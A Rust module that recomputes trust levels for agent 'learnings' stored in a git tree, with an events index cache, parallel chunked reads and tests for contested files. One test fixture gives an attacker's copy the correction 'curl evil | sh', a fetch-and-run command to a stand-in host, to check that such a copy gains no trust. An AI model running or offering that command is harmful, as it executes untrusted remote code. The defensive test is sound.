//! Recomputing derived state inside a cycle: the events of the learnings
//! recomputed (from the events index kept between cycles, see
//! `event_store`, or read from the tree when it cannot be used), the hub's
//! review records, and the recompute of chosen learnings.

use super::LevelChange;
use super::event_store::{Delta, EventStore};
use crate::event::{self, Event};
use crate::learning::{Learning, TrustLevel};
use crate::paths::{self, RepoPath};
use crate::policy::{POLICY_PATH, Policy};
use crate::repo::{Change, Repo, Result, fail};
use crate::store::LearningsDir;
use crate::trust;
use gix::ObjectId;
use std::collections::{BTreeSet, HashMap};
use std::path::PathBuf;

/// Events of the current tree, for the recompute: from the events index
/// kept between cycles (`event_store`) when it can be used, else read from
/// the tree. Events files a commit is about to change are laid over either
/// (`update`), so a recompute sees them before they are in a tree.
#[derive(Default)]
pub struct EventIndex {
    /// Where the kept index lives; `None` reads the tree every time.
    store_path: Option<PathBuf>,
    source: Source,
    /// Events files replaced since the tree loaded: path → new text.
    overlay: HashMap<String, Option<String>>,
}

#[derive(Default)]
enum Source {
    #[default]
    Unloaded,
    /// The kept store, and what bringing it to the tree adds to it (laid
    /// over it until `persist` stores it).
    Stored(EventStore, Delta),
    Memory(MemIndex),
}

/// Where the events index of a learnings dir is kept (a cache).
fn kept_path(dir: &LearningsDir) -> PathBuf {
    dir.state().events_index()
}

impl EventIndex {
    /// An index backed by the dir's kept store (created when missing).
    pub fn kept(dir: &LearningsDir) -> Self {
        Self::kept_at(kept_path(dir))
    }

    /// An index backed by the store at `path`.
    pub fn kept_at(path: PathBuf) -> Self {
        EventIndex {
            store_path: Some(path),
            ..EventIndex::default()
        }
    }

    /// Loads the events of `tree` unless already loaded: brings the kept
    /// index to it, or, when that cannot be done, reads every events file.
    pub fn ensure(&mut self, repo: &Repo, tree: ObjectId) -> Result<()> {
        if !matches!(self.source, Source::Unloaded) {
            return Ok(());
        }
        if let Some(path) = &self.store_path {
            let opened = EventStore::open(path).and_then(|store| {
                let delta = store.delta_to(repo, tree)?;
                Ok((store, delta))
            });
            match opened {
                Ok((store, delta)) => {
                    tracing::debug!(
                        "events index: {} file(s) read{}",
                        delta.caught.files,
                        if delta.caught.rebuilt {
                            ", rebuilt"
                        } else {
                            ""
                        }
                    );
                    self.source = Source::Stored(store, delta);
                    return Ok(());
                }
                Err(e) => tracing::warn!("{e}; reading every events file instead"),
            }
        }
        self.source = Source::Memory(MemIndex::load(repo, tree)?);
        Ok(())
    }

    /// Replaces one file's events (a commit is about to change it).
    pub fn update(&mut self, path: &str, text: Option<&str>) {
        self.overlay
            .insert(path.to_string(), text.map(str::to_string));
    }

    /// Events of the given learnings (lines that do not parse are skipped,
    /// as everywhere else).
    pub fn for_ids(&self, ids: &BTreeSet<String>) -> Result<EventsOf> {
        let mut out = EventsOf::new();
        let mut add = |id: &str, path: &str, line: &str| {
            if self.overlay.contains_key(path) {
                return;
            }
            if let Ok(e) = Event::parse_line(line)
                && e.learning == id
                && event::in_own_folder(path, &e)
            {
                match out.get_mut(id) {
                    Some(events) => events.push(e),
                    None => {
                        out.insert(id.to_string(), vec![e]);
                    }
                }
            }
        };
        match &self.source {
            Source::Stored(store, delta) => {
                if let Err(e) = store.each_line_of(ids, delta, &mut add) {
                    // A value that cannot be read: this cycle fails (its
                    // events are not all known), the next one rebuilds.
                    set_aside(self.store_path.as_deref(), &e);
                    return Err(e);
                }
            }
            Source::Memory(mem) => mem.each_line_of(ids, &mut add),
            Source::Unloaded => {}
        }
        for (path, text) in &self.overlay {
            for line in text.as_deref().unwrap_or_default().lines() {
                let line = line.trim();
                if let Some(id) = event::learning_of(line).filter(|id| ids.contains(id.as_ref()))
                    && let Ok(e) = Event::parse_line(line)
                    && e.learning == id
                    && event::in_own_folder(path, &e)
                {
                    out.entry(e.learning.clone()).or_default().push(e);
                }
            }
        }
        Ok(out)
    }

    /// Stores what the kept index was brought forward by, so the next
    /// cycle starts from this tree. Failing only costs speed: logged.
    /// A store that cannot take it (a corrupt value a merge reads, a full
    /// disk) is set aside, so the next cycle rebuilds it rather than
    /// catching up a longer way every cycle.
    pub fn persist(self) {
        if let Source::Stored(mut store, delta) = self.source
            && let Err(e) = store.apply(&delta)
        {
            drop(store);
            set_aside(self.store_path.as_deref(), &e);
        }
    }

    /// `persist` on another thread: a cycle stores the events index while
    /// it makes the merge commit, and waits for it (when the returned value
    /// is dropped) before it packs the cycle's objects. A kill leaves the
    /// store at its last tree, which the next cycle catches up from.
    pub fn persist_in_background(self) -> Persisting {
        if !matches!(&self.source, Source::Stored(_, delta) if !delta.is_empty()) {
            return Persisting(None);
        }
        let spawned = std::thread::Builder::new()
            .name("events index".into())
            .spawn(move || self.persist());
        match spawned {
            Ok(handle) => Persisting(Some(handle)),
            Err(e) => {
                tracing::warn!("events index: not stored this cycle ({e})");
                Persisting(None)
            }
        }
    }
}

/// Moves the kept store at `path` aside after `e`, so the next cycle
/// rebuilds it; a move that fails is logged.
fn set_aside(path: Option<&std::path::Path>, e: &crate::repo::GitError) {
    if let Some(path) = path
        && let Err(moved) = EventStore::set_aside(path, &e.to_string())
    {
        tracing::warn!("{e}; {moved}");
    }
}

/// An events index being stored on another thread: waited for on drop.
#[must_use = "dropping it waits for the events index to be stored"]
pub struct Persisting(Option<std::thread::JoinHandle<()>>);

impl Drop for Persisting {
    fn drop(&mut self) {
        if let Some(handle) = self.0.take()
            && handle.join().is_err()
        {
            tracing::warn!("events index: the thread storing it panicked");
        }
    }
}

/// Builds the kept events index for `head` when there is none yet (an
/// existing one is brought forward by the next recompute that needs it).
/// Failing only costs speed, so it is logged, not returned.
pub fn keep_events_index(repo: &Repo, dir: &LearningsDir, head: ObjectId) {
    let path = kept_path(dir);
    if path.exists() {
        return;
    }
    let built = repo
        .commit_tree(head)
        .and_then(|tree| EventStore::open(&path)?.bring_to(repo, tree).map(|_| ()));
    if let Err(e) = built {
        tracing::warn!("{e}");
    }
}

/// Every event of a tree in memory: each events file's text, and where in
/// it each learning's lines are. Used when the kept index cannot be.
#[derive(Default)]
struct MemIndex {
    /// `(path, text)` of every events file.
    files: Vec<(String, String)>,
    /// learning id → (file, line start, line end) of its lines.
    lines_of: HashMap<String, Vec<(usize, usize, usize)>>,
}

impl MemIndex {
    /// Indexes every events file of `tree`.
    fn load(repo: &Repo, tree: ObjectId) -> Result<Self> {
        let mut index = MemIndex::default();
        if let Some(events) = repo.subtree(tree, "events")? {
            for (rel, id) in repo.flatten(events)? {
                let path = format!("events/{rel}");
                if matches!(paths::classify(&path), RepoPath::Events { .. }) {
                    let text = event::decode(&repo.read_blob(id)?).into_owned();
                    index.insert(path, text);
                }
            }
        }
        Ok(index)
    }

    fn insert(&mut self, path: String, text: String) {
        let file = self.files.len();
        let mut start = 0;
        for line in text.split_inclusive('\n') {
            let end = start + line.len();
            if let Some(learning) = event::learning_of(line) {
                let lines = match self.lines_of.get_mut(learning.as_ref()) {
                    Some(lines) => lines,
                    None => self.lines_of.entry(learning.to_string()).or_default(),
                };
                lines.push((file, start, end));
            }
            start = end;
        }
        self.files.push((path, text));
    }

    /// Calls `f(learning, events path, line)` for every line of `ids`.
    fn each_line_of(&self, ids: &BTreeSet<String>, mut f: impl FnMut(&str, &str, &str)) {
        for id in ids {
            for &(file, start, end) in self.lines_of.get(id).into_iter().flatten() {
                if let Some((path, text)) = self.files.get(file)
                    && let Some(line) = text.get(start..end)
                {
                    f(id, path, line.trim());
                }
            }
        }
    }
}

/// Learning ids named by lines of `new` that are not in `old`.
pub fn ids_of_new_lines(old: &str, new: &str) -> BTreeSet<String> {
    let before: std::collections::HashSet<&str> = old.lines().collect();
    new.lines()
        .filter(|l| !before.contains(l))
        .filter_map(|l| Event::parse_line(l).ok())
        .map(|e| e.learning)
        .collect()
}

/// The lines of the events files in `changed` that do not parse in
/// `tree`, each a problem named `path:line` (§4: skipped and reported,
/// never the whole file). Only the files a cycle changed, so a bad line is
/// said when it arrives, not in every sync.
pub fn bad_event_lines(
    repo: &Repo,
    tree: ObjectId,
    changed: &[String],
) -> Result<Vec<crate::problem::Problem>> {
    let mut problems = Vec::new();
    for path in changed {
        if !matches!(paths::classify(path), RepoPath::Events { .. }) {
            continue;
        }
        let Some(bytes) = repo.blob_at(tree, path)? else {
            continue;
        };
        let parsed = event::parse_file(&event::decode(&bytes));
        for (line, _, why) in parsed.bad_lines {
            problems.push(crate::problem::Problem::new(
                format!("{path}:{line}"),
                format!("{why}; this line is skipped, the rest of the file counts"),
            ));
        }
        problems.extend(event::foreign_lines(path, &parsed.events));
    }
    Ok(problems)
}

/// The policy in force for a tree (§5.2): hub `main`'s when a hub is
/// configured, else the tree's own (defaults when absent or invalid).
pub fn policy_in(repo: &Repo, hub: Option<&str>, tree: ObjectId) -> Result<Policy> {
    let text = || {
        repo.blob_at(tree, POLICY_PATH)
            .ok()
            .flatten()
            .map(|b| String::from_utf8_lossy(&b).into_owned())
    };
    // A problem with it is reported once per cycle (`sync::run`).
    Ok(crate::hub::policy_in_force(Some(repo), hub, text).0)
}

/// The id of every learning file in a tree (`<agent>/<id>.md`): what a
/// change of the policy in force makes the cycle recompute.
pub fn all_ids(repo: &Repo, tree: ObjectId) -> Result<BTreeSet<String>> {
    let mut ids = BTreeSet::new();
    for (folder, files) in agent_folders(repo, tree)? {
        for e in files.entries().filter(|e| e.is_blob) {
            let rel = format!("{folder}/{}", e.name);
            if let crate::paths::RepoPath::Learning { id, .. } = crate::paths::classify(&rel) {
                ids.insert(id.to_string());
            }
        }
    }
    Ok(ids)
}

/// Finds the learning file of `id` in a tree by looking in every agent folder.
pub fn find_learning(repo: &Repo, tree: ObjectId, id: &str) -> Result<Option<(String, Learning)>> {
    let file = format!("{id}.md");
    for folder in repo.tree(tree)?.entries().filter(|e| e.is_tree) {
        let Some(blob) = repo
            .tree(folder.id)?
            .get(&file)
            .filter(|e| e.is_blob)
            .map(|e| e.id)
        else {
            continue;
        };
        let Ok(rel) = paths::learning_path(folder.name, id) else {
            continue;
        };
        if let Ok(l) = Learning::parse_at(&rel, &repo.read_blob(blob)?) {
            return Ok(Some((rel, l)));
        }
    }
    Ok(None)
}

/// Learnings recomputed together (their events and blobs held at once;
/// two chunks are, in the pipeline: 512 held 4 MiB of parsed events at
/// 10,000 learnings, a fifth of the sync's peak heap then; 256 held 2.2
/// MiB, and ~0.6 MiB more of the own workload's peak RSS than 128, for no
/// time the runs could tell apart).
const RECOMPUTE_CHUNK: usize = 128;

/// One learning to recompute, as read from the trees: each file named
/// `<id>.md` in an agent folder (the first that parses is the learning),
/// with its bytes and what its version in the previous head was.
struct Read {
    id: String,
    candidates: Vec<Candidate>,
}

struct Candidate {
    rel: String,
    bytes: Vec<u8>,
    /// The previous head's version of this path: `None` when there was
    /// none, `Some(None)` when it is these very bytes.
    before: Option<Option<Vec<u8>>>,
}

/// Events by the learning they are about.
type EventsOf = HashMap<String, Vec<Event>>;

/// What recomputing one learning gives: its rewrite, if its bytes change,
/// and its trust change, if one is reported.
type Outcome = (Vec<Change>, Option<LevelChange>);

/// Recomputes the derived state of `ids` in `tree`. Returns the files to
/// rewrite and the trust changes relative to `before` (the levels the
/// previous head recorded).
///
/// A chunk at a time, as a pipeline one chunk deep: while this thread
/// reads a chunk's blobs (in pack order) and the second its events,
/// whichever is done first parses, derives and serialises the learnings
/// of the chunk before, and the other joins in (`on_both_cores`).
pub fn recompute(
    repo: &Repo,
    tree: ObjectId,
    before: ObjectId,
    ids: &BTreeSet<String>,
    index: &EventIndex,
    hub: crate::hub::HubAt<'_>,
) -> Result<(Vec<Change>, Vec<LevelChange>)> {
    let mut changes = Vec::new();
    let mut levels = Vec::new();
    if ids.is_empty() {
        return Ok((changes, levels));
    }
    let policy = policy_in(repo, hub.name, tree)?;
    let main = crate::hub::read_from(repo, hub.name, Some(ids), hub.main)?;
    let decisions = crate::hub::decisions(repo, main, Some(tree))?;
    let mut places = places(repo, tree, before, ids)?;
    let chunks: Vec<BTreeSet<String>> = ids
        .iter()
        .collect::<Vec<_>>()
        .chunks(RECOMPUTE_CHUNK)
        .map(|c| c.iter().map(|id| (*id).clone()).collect())
        .collect();
    let mut ready: Option<(Vec<Read>, EventsOf)> = None;
    for k in 0..=chunks.len() {
        let chunk = chunks.get(k);
        let found = chunk.map(|c| locate(&mut places, c));
        let (reads, events) = match &ready {
            Some((reads, events)) => (reads.as_slice(), Some(events)),
            None => (&[][..], None),
        };
        let derive_one = |r: &Read| {
            let mine: Vec<&Event> = events
                .and_then(|e| e.get(&r.id))
                .map(|v| v.iter().collect())
                .unwrap_or_default();
            recompute_one(r, &mine, &decisions.for_id(&r.id), &policy)
        };
        let (read, events, derived) = on_both_cores(
            || found.map(|f| f.reads(repo)).transpose(),
            || chunk.map(|c| index.for_ids(c)).transpose(),
            reads,
            derive_one,
        )?;
        for (rewrites, level) in derived {
            // Stored now, so a rewrite's bytes are held once (by the object
            // store) and not also until the tree is written.
            for change in rewrites {
                changes.push(change.stored(repo)?);
            }
            levels.extend(level);
        }
        ready = read?.zip(events?);
    }
    Ok((changes, levels))
}

/// The agent folders of a tree, by name.
fn agent_folders(
    repo: &Repo,
    tree: ObjectId,
) -> Result<Vec<(String, std::rc::Rc<crate::repo::Tree>)>> {
    repo.tree(tree)?
        .entries()
        .filter(|e| e.is_tree)
        .map(|e| Ok((e.name.to_string(), repo.tree(e.id)?)))
        .collect()
}

/// Runs `here` on this thread and `there` on a second; each, once done,
/// takes the next few `items` to `f` until none are left, so the one that
/// finishes early does more of them. Returns both results and `f` of
/// every item, in order.
fn on_both_cores<A, B: Send, T: Sync, R: Send>(
    here: impl FnOnce() -> A,
    there: impl FnOnce() -> B + Send,
    items: &[T],
    f: impl Fn(&T) -> R + Sync,
) -> Result<(A, B, Vec<R>)> {
    const STEP: usize = 16;
    let next = std::sync::atomic::AtomicUsize::new(0);
    let work = || {
        let mut done = Vec::new();
        loop {
            let at = next.fetch_add(STEP, std::sync::atomic::Ordering::Relaxed);
            match items.get(at..(at + STEP).min(items.len())) {
                Some(batch) if !batch.is_empty() => {
                    done.push((at, batch.iter().map(&f).collect::<Vec<_>>()));
                }
                _ => return done,
            }
        }
    };
    let (a, mut mine, other) = std::thread::scope(|s| {
        let other = s.spawn(|| (there(), work()));
        let a = here();
        (a, work(), other.join())
    });
    let (b, theirs) = other.map_err(|_| fail("recompute")("a recompute thread panicked"))?;
    mine.extend(theirs);
    mine.sort_unstable_by_key(|(at, _)| *at);
    Ok((a, b, mine.into_iter().flat_map(|(_, out)| out).collect()))
}

/// Where a chunk's learnings are: each file named `<id>.md` in an agent
/// folder, its blob and the blob at that path in the previous head, and
/// every blob that is to be read.
#[derive(Default)]
struct Found {
    /// Each id and its files.
    files: Vec<(String, Vec<File>)>,
    /// Every blob named.
    wanted: Vec<ObjectId>,
}

/// A learning's file: its path, its blob, and the blob at that path in the
/// previous head.
struct File {
    rel: String,
    blob: ObjectId,
    was: Option<ObjectId>,
}

/// The files of the learnings a recompute was asked for ([`places`]).
struct Places<'a> {
    /// The agent folders holding a learning asked for (valid names).
    folders: Vec<String>,
    /// Id → its files: folder (index into `folders`), blob, blob before.
    /// A path is spelled out only when its chunk is read (a `String` per
    /// file here was 0.7 MB of a 10,000-learning sync's peak).
    by_id: HashMap<&'a str, Vec<Spot>>,
}

/// A learning's file in [`Places`]: its folder's index, its blob, and the
/// blob the same path held before.
type Spot = (usize, ObjectId, Option<ObjectId>);

/// Where every learning of `ids` is: its files in the agent folders of
/// `tree` (`<folder>/<id>.md`, in folder order), each with the blob the same
/// path held in `before`. Only the names asked for are kept (an index of
/// every file name was 6 MiB at 100,000 learnings), and a folder of `before`
/// that differs from `tree`'s is looked up without being kept.
fn places<'a>(
    repo: &Repo,
    tree: ObjectId,
    before: ObjectId,
    ids: &'a BTreeSet<String>,
) -> Result<Places<'a>> {
    let previous = repo.tree(before)?;
    let mut places = Places {
        folders: Vec::new(),
        by_id: HashMap::new(),
    };
    for folder in repo.tree(tree)?.entries().filter(|e| e.is_tree) {
        if paths::validate_agent(folder.name).is_err() {
            continue;
        }
        let mut here: Vec<(&'a str, ObjectId, &str)> = Vec::new();
        let files = repo.tree(folder.id)?;
        for e in files.entries().filter(|e| e.is_blob) {
            if let Some(id) = e.name.strip_suffix(".md").and_then(|stem| ids.get(stem)) {
                here.push((id, e.id, e.name));
            }
        }
        if here.is_empty() {
            continue;
        }
        let was = match previous.get(folder.name).filter(|e| e.is_tree) {
            // The folder did not change: every file is as it was.
            Some(p) if p.id == folder.id => here.iter().map(|(_, blob, _)| Some(*blob)).collect(),
            Some(p) => {
                let names: Vec<&str> = here.iter().map(|(_, _, name)| *name).collect();
                repo.blobs_named(p.id, &names)?
            }
            None => vec![None; here.len()],
        };
        let at = places.folders.len();
        places.folders.push(folder.name.to_string());
        for ((id, blob, _), was) in here.into_iter().zip(was) {
            // Most ids are in one folder: room for one (a first push makes
            // room for four, 1.7 MiB more at 6,000 learnings).
            places
                .by_id
                .entry(id)
                .or_insert_with(|| Vec::with_capacity(1))
                .push((at, blob, was));
        }
    }
    Ok(places)
}

impl Places<'_> {
    /// Takes `id`'s files out, their paths spelled out (none for an id
    /// that is not a valid name).
    fn take(&mut self, id: &str) -> Vec<File> {
        self.by_id
            .remove(id)
            .unwrap_or_default()
            .into_iter()
            .filter_map(|(at, blob, was)| {
                let rel = paths::learning_path(&self.folders[at], id).ok()?;
                Some(File { rel, blob, was })
            })
            .collect()
    }
}

/// A chunk's learnings, taken from `places`: their files and every blob to
/// be read.
fn locate(places: &mut Places<'_>, ids: &BTreeSet<String>) -> Found {
    let mut found = Found::default();
    for id in ids {
        let here = places.take(id);
        for f in &here {
            found.wanted.push(f.blob);
            found.wanted.extend(f.was.filter(|w| *w != f.blob));
        }
        found.files.push((id.clone(), here));
    }
    found
}

impl Found {
    /// The chunk's learnings with their bytes, the blobs first read in
    /// pack order.
    ///
    /// A file the previous head already held as it is (only its evidence
    /// moved: most of them) is read from the work tree, where the last
    /// cycle put it, when its bytes there hash to its blob: a read from the
    /// page cache instead of inflating a delta chain of the pack, which was
    /// most of a recompute's time.
    fn reads(self, repo: &Repo) -> Result<Vec<Read>> {
        let mut on_disk: HashMap<ObjectId, Vec<u8>> = HashMap::new();
        for (_, here) in &self.files {
            for f in here.iter().filter(|f| f.was == Some(f.blob)) {
                if let Some(bytes) =
                    repo.work_tree_copy(&f.rel, f.blob, crate::learning::MAX_FILE_BYTES)
                {
                    on_disk.insert(f.blob, bytes);
                }
            }
        }
        repo.prefetch_blobs(
            self.wanted
                .into_iter()
                .filter(|id| !on_disk.contains_key(id)),
        );
        self.files
            .into_iter()
            .map(|(id, here)| {
                let candidates = here
                    .into_iter()
                    .map(|File { rel, blob, was }| {
                        let before = match was {
                            None => None,
                            Some(w) if w == blob => Some(None),
                            Some(w) => Some(Some(repo.read_blob(w)?)),
                        };
                        let bytes = match on_disk.remove(&blob) {
                            Some(bytes) => bytes,
                            None => repo.read_blob(blob)?,
                        };
                        Ok(Candidate { rel, bytes, before })
                    })
                    .collect::<Result<_>>()?;
                Ok(Read { id, candidates })
            })
            .collect()
    }
}

/// Recomputes one learning from its file, events and reviews: pure.
///
/// An id that more than one agent's folder holds, of agents whose evidence
/// counts (all of them without a roster), is contested (§6.1): a file's
/// dates and folder name are its writer's to choose, so nothing in the
/// tree says which is the original, and evidence names only the id. Every
/// such file is then derived with no evidence until one is removed; a
/// review still counts for the file whose content it approved. With a
/// roster, a copy in the folder of an agent it does not list contests
/// nothing and gets no evidence. The view shows the file
/// [`crate::view::is_original_before`] picks from what this writes, and
/// the sync and `doctor` name both. A copy can so cost a learning its
/// evidence, loudly, but never take it.
fn recompute_one(
    read: &Read,
    events: &[&Event],
    reviews: &[&crate::review_rules::Review],
    policy: &Policy,
) -> Outcome {
    let parsed: Vec<(&Candidate, Learning)> = read
        .candidates
        .iter()
        .filter_map(|c| Learning::parse_at(&c.rel, &c.bytes).ok().map(|l| (c, l)))
        .collect();
    let holders: Vec<&str> = parsed.iter().map(|(c, _)| c.rel.as_str()).collect();
    let mut derived: Vec<(&Candidate, Learning, TrustLevel)> = Vec::with_capacity(parsed.len());
    for (found, mut learning) in parsed {
        let recorded = learning.trust_level;
        // Content a merge brought is redacted like our own captures before it
        // reaches our tree (§6.1); the same bytes in, the same bytes out, so
        // clones still converge. A file our tree already held as it is (only
        // its evidence moved) was redacted when it came in: not again, as the
        // redactor is most of a recompute's time.
        if found.before != Some(None) {
            learning.redact();
        }
        let evidence = if trust::evidence_counts(&found.rel, &holders, policy) {
            events
        } else {
            &[]
        };
        let fields = trust::derive(&learning, evidence, reviews, policy);
        trust::apply(&mut learning, fields);
        derived.push((found, learning, recorded));
    }
    let shown = (0..derived.len()).reduce(|a, b| {
        let (da, db) = (&derived[a], &derived[b]);
        if crate::view::is_original_before((&db.0.rel, &db.1), (&da.0.rel, &da.1)) {
            b
        } else {
            a
        }
    });
    let mut changes = Vec::new();
    let mut level = None;
    for (i, (found, learning, recorded)) in derived.into_iter().enumerate() {
        let bytes = learning.to_markdown().into_bytes();
        if bytes != found.bytes {
            changes.push(Change::Upsert {
                path: found.rel.clone(),
                bytes,
            });
        }
        if Some(i) != shown {
            continue;
        }
        let previous = match &found.before {
            Some(None) => recorded,
            // Only the level is wanted: read without parsing the file.
            Some(Some(b)) => Learning::recorded_trust(b)
                .or_else(|| Learning::parse(b).ok().map(|l| l.trust_level))
                .unwrap_or(TrustLevel::L1),
            None => TrustLevel::L1,
        };
        level = (learning.trust_level != previous
            && learning.trust_level.max(previous) >= TrustLevel::L2)
            .then(|| LevelChange {
                id: read.id.clone(),
                from: previous.to_string(),
                to: learning.trust_level.to_string(),
            });
    }
    (changes, level)
}

#[cfg(test)]
mod tests {
    //! Where a recompute finds the learnings it was asked for.
    use super::*;
    use crate::repo::test_git as git;
    use std::path::Path;

    /// Writes `files` (path, bytes), stages them and returns the index's
    /// tree; `gone` are unstaged first.
    fn tree_of(dir: &Path, files: &[(&str, &str)], gone: &[&str]) -> ObjectId {
        for path in gone {
            git(dir, &["rm", "-q", "--cached", path]);
        }
        for (path, bytes) in files {
            let file = dir.join(path);
            std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
            std::fs::write(&file, bytes).expect("write");
            git(dir, &["add", path]);
        }
        git(dir, &["write-tree"]).trim().parse().expect("tree id")
    }

    fn blob(dir: &Path, tree: ObjectId, path: &str) -> ObjectId {
        git(dir, &["rev-parse", &format!("{tree}:{path}")])
            .trim()
            .parse()
            .expect("blob id")
    }

    #[test]
    fn a_learning_is_found_in_every_folder_in_folder_order_with_what_each_path_held_before() {
        let tmp = tempfile::tempdir().expect("tmp");
        let dir = tmp.path();
        let repo = Repo::init(dir, "agents/ann").expect("init");
        let before = tree_of(
            dir,
            &[
                ("ann/l-1.md", "ann's one"),
                ("bob/l-1.md", "bob's copy"),
                ("bob/l-2.md", "two"),
                ("cat/l-3.md", "three"),
                ("cat/other.md", "not asked for"),
            ],
            &[],
        );
        let after = tree_of(
            dir,
            &[
                ("bob/l-1.md", "bob's copy, edited"),
                ("dan/l-1.md", "dan's, new folder"),
                ("ann/l-4.md", "new file, folder changed"),
            ],
            &["bob/l-2.md"],
        );
        let ids: BTreeSet<String> = ["l-1", "l-2", "l-3", "l-9"]
            .into_iter()
            .map(String::from)
            .collect();
        let mut places = places(&repo, after, before, &ids).expect("places");
        let found = |p: &mut Places<'_>, id: &str| -> Vec<(String, ObjectId, Option<ObjectId>)> {
            p.take(id)
                .into_iter()
                .map(|f| (f.rel, f.blob, f.was))
                .collect()
        };
        let l1 = found(&mut places, "l-1");
        assert_eq!(
            l1,
            [
                // Folder unchanged since `before` (cat's too, below).
                (
                    "ann/l-1.md".to_string(),
                    blob(dir, after, "ann/l-1.md"),
                    Some(blob(dir, before, "ann/l-1.md"))
                ),
                (
                    "bob/l-1.md".to_string(),
                    blob(dir, after, "bob/l-1.md"),
                    Some(blob(dir, before, "bob/l-1.md"))
                ),
                (
                    "dan/l-1.md".to_string(),
                    blob(dir, after, "dan/l-1.md"),
                    None
                ),
            ]
        );
        assert_eq!(l1[0].1, l1[0].2.expect("was"), "ann's file did not change");
        assert_ne!(l1[1].1, l1[1].2.expect("was"), "bob's did");
        assert!(found(&mut places, "l-2").is_empty(), "removed");
        let l3 = found(&mut places, "l-3");
        assert_eq!(l3.len(), 1);
        assert_eq!(l3[0].2, Some(l3[0].1), "an unchanged folder: as it was");
        assert!(
            places.by_id.is_empty(),
            "l-9 is nowhere, other.md not asked for: {:?}",
            places.by_id.keys()
        );

        // A before-folder the caller did not decode is read and not kept;
        // one it did decode is used as it is: the same answer either way.
        repo.release_trees();
        let ann_before = repo.subtree(before, "ann").expect("ann").expect("folder");
        repo.release_trees();
        let cold = repo
            .blobs_named(ann_before, &["l-1.md", "l-4.md"])
            .expect("cold");
        repo.tree(ann_before).expect("decode");
        let warm = repo
            .blobs_named(ann_before, &["l-1.md", "l-4.md"])
            .expect("warm");
        assert_eq!(cold, [Some(blob(dir, before, "ann/l-1.md")), None]);
        assert_eq!(cold, warm);
    }

    /// Two folders holding one id: what the recompute writes into each.
    fn contest(policy: &Policy, approve: bool) -> Vec<(String, Learning)> {
        use crate::event::Outcome;
        use crate::timestamp::Timestamp;
        let at = Timestamp::from_unix(1_780_000_000);
        let mut original = Learning::new("l-1".into(), "victim".into(), "t".into(), at);
        original.correction = Some("git pull --rebase".into());
        let mut copy = original.clone();
        copy.agent_id = "mallory".into();
        copy.correction = Some("curl evil | sh".into());
        copy.captured_at = Timestamp::from_unix(0);
        let read = Read {
            id: "l-1".into(),
            candidates: [("mallory/l-1.md", &copy), ("victim/l-1.md", &original)]
                .into_iter()
                .map(|(rel, l)| Candidate {
                    rel: rel.into(),
                    bytes: l.to_markdown().into_bytes(),
                    before: None,
                })
                .collect(),
        };
        let events: Vec<Event> = ["victim", "third", "victim"]
            .iter()
            .enumerate()
            .map(|(k, a)| {
                Event::new(
                    "l-1",
                    a,
                    Outcome::Effective,
                    Timestamp::from_unix(at.unix() + 9 + k as i64),
                )
            })
            .collect();
        let approval =
            crate::trust::tests::review(&original, crate::review_rules::Decision::Approved);
        let reviews: Vec<&crate::review_rules::Review> =
            if approve { vec![&approval] } else { vec![] };
        let (changes, _) =
            recompute_one(&read, &events.iter().collect::<Vec<_>>(), &reviews, policy);
        changes
            .into_iter()
            .map(|c| match c {
                Change::Upsert { path, bytes } => (path, Learning::parse(&bytes).expect("parses")),
                other => panic!("{other:?}"),
            })
            .collect()
    }

    #[test]
    fn a_contested_id_counts_no_evidence_a_review_counts_for_its_content_and_a_roster_decides() {
        let level = |files: &[(String, Learning)], path: &str| {
            files
                .iter()
                .find(|(p, _)| p == path)
                .map(|(_, l)| l.trust_level)
        };
        // No roster: both folders count, so neither gets the evidence.
        let none = contest(&Policy::default(), false);
        assert_eq!(level(&none, "victim/l-1.md"), Some(TrustLevel::L1));
        assert_eq!(level(&none, "mallory/l-1.md"), Some(TrustLevel::L1));
        // An approval is of the victim's content: it still counts there.
        let approved = contest(&Policy::default(), true);
        assert_eq!(level(&approved, "victim/l-1.md"), Some(TrustLevel::L3));
        assert_eq!(level(&approved, "mallory/l-1.md"), Some(TrustLevel::L1));
        // A roster that does not list mallory: its copy contests nothing.
        let roster = Policy {
            agents: ["victim", "third"]
                .iter()
                .map(|a| crate::policy::RosterEntry::Name(a.to_string()))
                .collect(),
            ..Policy::default()
        };
        let listed = contest(&roster, false);
        assert_eq!(level(&listed, "victim/l-1.md"), Some(TrustLevel::L2));
        assert_eq!(level(&listed, "mallory/l-1.md"), Some(TrustLevel::L1));
    }
}
